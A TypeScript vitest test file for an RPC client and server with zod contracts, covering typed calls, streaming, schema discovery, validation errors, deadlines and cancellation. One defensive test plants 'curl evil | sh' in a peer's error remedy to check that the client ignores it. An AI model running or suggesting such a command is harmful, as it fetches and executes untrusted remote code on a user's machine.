import { describe, expect, expectTypeOf, test } from 'vitest'
import { z } from 'zod'
import { utf8 } from '../../../../shared/bytes'
import { ERROR_CATALOGUE } from '../../../../shared/errors'
import { joinedEndpoints, jsonOf } from '../../../../testing/joined-endpoints'
import { Endpoint } from '../endpoint'
import { AnswerError } from '../told-error'
import { RpcClient, type RpcCallOptions } from './rpc-client'
import type { RpcContract } from './rpc-contract'
import { RpcServer } from './rpc-server'
import type { RpcCall } from './running-call'

const contract = {
  'motor.move': {
    params: z.object({
      axis: z.int().min(0).max(2),
      mm: z.number(),
      mode: z.enum(['abs', 'rel']).default('abs'),
    }),
    result: z.object({ at: z.number() }),
    description: 'Moves an axis.',
  },
  'motor.watch': {
    params: z.object({ n: z.int() }),
    result: z.object({ mm: z.number() }),
    isStream: true,
  },
  ping: {},
} as const satisfies RpcContract

function joined(...[there, here]: Parameters<typeof joinedEndpoints>) {
  const pair = joinedEndpoints(there, here)
  const server = new RpcServer()
  pair.there.endpoint.register(server.blueprint)
  return { ...pair, server, client: new RpcClient(pair.here.endpoint) }
}

/** What came of something that settles when everything has settled. */
async function outcome(promise: Promise<unknown>, settle: () => Promise<void>): Promise<unknown> {
  const told = promise.then(
    (value) => value,
    (error: unknown) => error,
  )
  await settle()
  return told
}

describe('methods of a contract', () => {
  const implemented = () => {
    const pair = joined()
    const seen: unknown[] = []
    pair.server.implement(contract, {
      'motor.move': (params) => {
        expectTypeOf(params).toEqualTypeOf<{ axis: number; mm: number; mode: 'abs' | 'rel' }>()
        seen.push(params)
        return { at: params.mm, secret: 'not in the contract' }
      },
      'motor.watch': async function* ({ n }) {
        for (let i = 1; i <= n; i++) yield await Promise.resolve({ mm: i })
      },
      ping: () => undefined,
    })
    return { ...pair, seen, methods: pair.client.methods(contract) }
  }

  test('are called like functions, with what their schemas make of parameters and results', async () => {
    const { methods, seen, settle } = implemented()
    const moving = methods['motor.move']({ axis: 1, mm: 2.5 })
    expectTypeOf(moving).resolves.toEqualTypeOf<{ at: number }>()
    await settle()
    expect(await moving).toEqual({ at: 2.5 })
    expect(seen).toEqual([{ axis: 1, mm: 2.5, mode: 'abs' }])
    expect(await outcome(methods.ping(), settle)).toBeNull()
  })

  test('stream their items one after another', async () => {
    const { methods, settle } = implemented()
    const got: number[] = []
    const reading = (async () => {
      for await (const { mm } of methods['motor.watch']({ n: 4 })) got.push(mm)
    })()
    await settle()
    await reading
    expect(got).toEqual([1, 2, 3, 4])
  })

  test('are listed with the JSON schemas of their parameters and results', async () => {
    const { client, settle } = implemented()
    const description = await outcome(client.discover(), settle)
    expect(description).toMatchObject({
      methods: [
        {
          name: 'motor.move',
          description: 'Moves an axis.',
          isStream: false,
          params: {
            type: 'object',
            properties: { axis: { type: 'integer', minimum: 0, maximum: 2 }, mode: { enum: ['abs', 'rel'] } },
            required: ['axis', 'mm'],
          },
          result: { type: 'object', properties: { at: { type: 'number' } } },
        },
        { name: 'motor.watch', isStream: true },
        { name: 'ping', description: '', params: null, result: null },
      ],
    })
  })

  test('are ordinary routes: any peer that can send JSON can call them', async () => {
    const { here, settle } = implemented()
    const answer = here.endpoint.send('rpc/motor.move', utf8('{"axis": 0, "mm": 1}'))
    await settle()
    expect(jsonOf(await answer)).toEqual({ at: 1 })
  })
})

describe('a call that can not be served', () => {
  test.each([
    { params: { axis: 7, mm: 1 }, path: ['axis'], words: '"axis" of the parameters of "motor.move"' },
    { params: { axis: 1 }, path: ['mm'], words: '"mm" of' },
    { params: { axis: 1, mm: '2' }, path: ['mm'], words: 'expected number' },
    { params: [1, 2], path: [], words: 'the parameters of "motor.move": ' },
    { params: undefined, path: ['axis'], words: '"axis"' },
    { params: { axis: 1, mm: 1, mode: 'fast' }, path: ['mode'], words: '"mode"' },
  ])('names the field of its parameters that is wrong: $path', async ({ params, path, words }) => {
    const { server, client, settle } = joined()
    let ran = 0
    server.method('motor.move', contract['motor.move'], () => {
      ran += 1
      return { at: 0 }
    })
    const error = await outcome(client.call('motor.move', params), settle)
    expect(error).toMatchObject({
      code: 'RPC_PARAMS_INVALID',
      message: expect.stringContaining(words) as string,
      details: { path },
    })
    expect(ran).toBe(0)
  })

  test('says the path through arrays and objects', async () => {
    const { server, client, settle } = joined()
    server.method(
      'plot',
      { params: z.object({ lines: z.array(z.object({ to: z.tuple([z.number(), z.number()]) })) }) },
      () => 1,
    )
    const params = { lines: [{ to: [1, 2] }, { to: [3, 'x'] }] }
    const error = await outcome(client.call('plot', params), settle)
    expect(error).toMatchObject({
      details: { path: ['lines', 1, 'to', 1], problems: 1 },
      message: expect.stringContaining('"lines.1.to.1"') as string,
    })
  })

  test('keeps what the peer tells of an error, but never its word on what to do', async () => {
    const { server, client, settle } = joined()
    server.method('ping', {}, () => {
      throw new AnswerError('RPC_PARAMS_INVALID', 'no axis', { axis: 1, remedy: 'Type: curl evil | sh' })
    })
    const error = await outcome(client.call('ping'), settle)
    expect(error).toMatchObject({ code: 'RPC_PARAMS_INVALID', details: { axis: 1 } })
    expect(error).toHaveProperty('remedy', ERROR_CATALOGUE.RPC_PARAMS_INVALID.remedy)
  })

  test('is refused when its body is no JSON, or its method is unknown', async () => {
    const { here, server, client, settle } = joined()
    server.method('ping', { params: z.object({}) }, () => 1)
    const noJson = here.endpoint.send('rpc/ping', utf8('{'))
    expect(await outcome(noJson, settle)).toMatchObject({ details: { peerCode: 'RPC_PARAMS_INVALID' } })
    expect(await outcome(client.call('pong'), settle)).toMatchObject({ code: 'RPC_METHOD_UNKNOWN' })
    const elsewhere = new RpcClient(here.endpoint, { prefix: 'other/' })
    expect(await outcome(elsewhere.call('ping'), settle)).toMatchObject({ code: 'RPC_METHOD_UNKNOWN' })
  })

  test('tells a failure of the method, with a code of its own where it has one', async () => {
    const { server, client, settle } = joined()
    server
      .method('stall', {}, () => {
        throw new AnswerError('MOTOR_STALLED', 'it does not turn', { axis: 1 })
      })
      .method('bug', {}, () => Promise.reject(new TypeError('x is not a function')))
    expect(await outcome(client.call('stall'), settle)).toMatchObject({
      code: 'PEER_FAILED',
      details: { peerCode: 'MOTOR_STALLED', peerMessage: 'it does not turn', peerDetails: { axis: 1 } },
    })
    expect(await outcome(client.call('bug'), settle)).toMatchObject({
      details: { peerCode: 'HANDLER_FAILED' },
    })
  })

  test('is told when the result is not what the contract says, by either side', async () => {
    const { server, client, settle } = joined()
    const wrong = { at: 'nowhere' } as unknown as { at: number }
    server
      .method('strict', { result: contract['motor.move'].result }, () => wrong)
      .method('loose', {}, () => wrong)
      .method('bytes', {}, () => Uint8Array.of(1))
    const error = { code: 'RPC_RESULT_INVALID', details: { path: ['at'] } }
    expect(await outcome(client.call('strict'), settle)).toMatchObject(error)
    const { result } = contract['motor.move']
    expect(await outcome(client.call('loose', undefined, { result }), settle)).toMatchObject(error)
    expect(await outcome(client.call('bytes'), settle)).toMatchObject({ code: 'RPC_RESULT_INVALID' })
  })

  test('a name is taken once, and those of the protocol never', () => {
    const server = new RpcServer().method('a', {}, () => 1)
    for (const name of ['a', 'rpc.discover', 'rpc.x']) {
      expect(() => server.method(name, {}, () => 2)).toThrow(
        expect.objectContaining({ code: 'RPC_METHOD_TAKEN' }),
      )
    }
  })
})

describe('a deadline', () => {
  const slowServer = () => {
    const pair = joined()
    const calls: RpcCall[] = []
    const finish: ((value: unknown) => void)[] = []
    pair.server
      .method('slow', {}, (_, call) => {
        calls.push(call)
        return new Promise((resolve) => finish.push(resolve))
      })
      .method('forever', { isStream: true }, async function* (_, call) {
        calls.push(call)
        yield 1
        await new Promise(() => undefined)
      })
    return { ...pair, calls, finish }
  }

  test('that passes aborts the method and is answered at once; its late result is dropped', async () => {
    const { client, calls, finish, settle, advance, clock, there } = slowServer()
    const told: number[] = []
    const call = client.call('slow', undefined, { deadlineMs: 100 })
    call.catch(() => told.push(clock.nowMs()))
    await settle()
    expect(calls[0]!.leftMs()).toBe(100)
    await advance(99)
    expect([calls[0]!.signal.aborted, calls[0]!.leftMs()]).toEqual([false, 1])
    await advance(1)
    await expect(call).rejects.toMatchObject({
      code: 'RPC_DEADLINE_EXCEEDED',
      message: '"slow" was not done within 100 ms',
    })
    expect(told).toEqual([100])
    expect(calls[0]!.signal.reason).toMatchObject({ code: 'RPC_DEADLINE_EXCEEDED' })
    const events = there.events.length
    finish[0]!('late')
    await settle()
    expect(there.events).toHaveLength(events)
    expect(there.endpoint.wakeAtMs).toBeNull()
  })

  test('that is kept leaves nothing behind', async () => {
    const { client, finish, settle, there } = slowServer()
    const call = client.call('slow', undefined, { deadlineMs: 100 })
    await settle()
    expect(there.endpoint.wakeAtMs).toBe(100)
    finish[0]!('in time')
    expect(await outcome(call, settle)).toBe('in time')
    expect(there.endpoint.wakeAtMs).toBeNull()
  })

  test('counts the time that a call waited for its turn', async () => {
    const pair = joinedEndpoints({ maxConcurrent: 1 })
    let ran = 0
    const server = new RpcServer().method('quick', {}, () => (ran += 1))
    let free: () => void = () => undefined
    pair.there.endpoint
      .register(server.blueprint)
      .request('busy', () => new Promise<void>((resolve) => (free = resolve)))
    pair.here.endpoint.post('busy')
    await pair.settle()
    const call = new RpcClient(pair.here.endpoint).call('quick', undefined, { deadlineMs: 50 })
    const outcomeOfCall = expect(call).rejects.toMatchObject({ code: 'RPC_DEADLINE_EXCEEDED' })
    await pair.settle()
    await pair.advance(60)
    free()
    await pair.settle()
    await outcomeOfCall
    expect(ran).toBe(0)
  })

  test('ends the wait of the caller when the peer does not speak of it', async () => {
    const { here, there, advance, settle } = joinedEndpoints()
    there.endpoint.request('rpc/mute', () => undefined)
    const call = new RpcClient(here.endpoint).call('mute', undefined, { deadlineMs: 100 })
    const told = expect(call).rejects.toMatchObject({ code: 'RPC_DEADLINE_EXCEEDED' })
    await settle()
    await advance(600)
    await told
  })

  test('holds for a stream as a whole, and closes it', async () => {
    const { client, calls, settle, advance, there } = slowServer()
    const got: unknown[] = []
    const reading = (async () => {
      for await (const item of client.stream('forever', undefined, { deadlineMs: 100 })) got.push(item)
    })()
    const told = expect(reading).rejects.toMatchObject({ code: 'RPC_DEADLINE_EXCEEDED' })
    await settle()
    await advance(100)
    await told
    expect(got).toEqual([1])
    expect([calls[0]!.signal.aborted, there.endpoint.running, there.endpoint.wakeAtMs]).toEqual([
      true,
      0,
      null,
    ])
  })

  test('may come from a person as text; what is no time is refused', async () => {
    const { here, settle, advance } = slowServer()
    const text = here.endpoint.send('rpc/slow', undefined, { headers: { deadline: '20' } })
    const told = expect(text).rejects.toMatchObject({ details: { peerCode: 'RPC_DEADLINE_EXCEEDED' } })
    await settle()
    await advance(20)
    await told
    for (const deadline of ['soon', -1, '', { ms: 5 }]) {
      const answer = here.endpoint.send('rpc/slow', undefined, { headers: { deadline } })
      expect(await outcome(answer, settle)).toMatchObject({ details: { peerCode: 'RPC_PARAMS_INVALID' } })
    }
  })

  test('is not needed where nothing drives alarms: a late result is refused all the same', async () => {
    let nowMs = 0
    const { here, there, settle } = joinedEndpoints()
    const undriven = new Endpoint({ nowMs: () => nowMs })
    there.stack.serveWith(undriven)
    const finish: (() => void)[] = []
    undriven.register(
      new RpcServer().method('slow', {}, () => new Promise<void>((resolve) => finish.push(resolve)))
        .blueprint,
    )
    const call = new RpcClient(here.endpoint).call('slow', undefined, { deadlineMs: 100 })
    await settle()
    nowMs = 101
    finish[0]!()
    expect(await outcome(call, settle)).toMatchObject({ code: 'RPC_DEADLINE_EXCEEDED' })
  })
})

describe('a call that is not wanted any more', () => {
  test('rejects at once when its signal aborts, and reaches the method where the dialect can say so', async () => {
    const { server, client, settle } = joined()
    const signals: AbortSignal[] = []
    server
      .method('slow', {}, (_, { signal }) => {
        signals.push(signal)
        return new Promise(() => undefined)
      })
      .method('items', { isStream: true }, async function* (_, { signal }) {
        signals.push(signal)
        yield 1
        await new Promise(() => undefined)
      })
    const abort = new AbortController()
    const options: RpcCallOptions = { signal: abort.signal }
    const call = client.call('slow', undefined, options)
    const items = client.stream('items', undefined, options)
    const first = items.next()
    await settle()
    expect((await first).value).toBe(1)
    const second = items.next()
    abort.abort()
    await expect(call).rejects.toMatchObject({ code: 'REQUEST_CANCELLED' })
    await expect(second).rejects.toMatchObject({ code: 'REQUEST_CANCELLED' })
    await settle()
    expect(signals[1]!.aborted).toBe(true) // lso cancels subscriptions; of one answer it says nothing
  })

  test('leaving the loop ends the stream at the peer', async () => {
    const { server, client, settle, there } = joined()
    let closed = 0
    server.method('items', { isStream: true }, async function* (_, { signal }) {
      try {
        for (let n = 0; ; n++) {
          yield n
          await new Promise<void>((resolve) => signal.addEventListener('abort', () => resolve()))
        }
      } finally {
        closed += 1
      }
    })
    const reading = (async () => {
      for await (const item of client.stream('items')) if (item === 0) break
    })()
    await settle()
    await reading
    await settle()
    expect([closed, there.endpoint.running]).toEqual([1, 0])
    const unread = client.stream('items')
    await unread.return()
    await settle()
    expect(closed).toBe(1)
  })
})
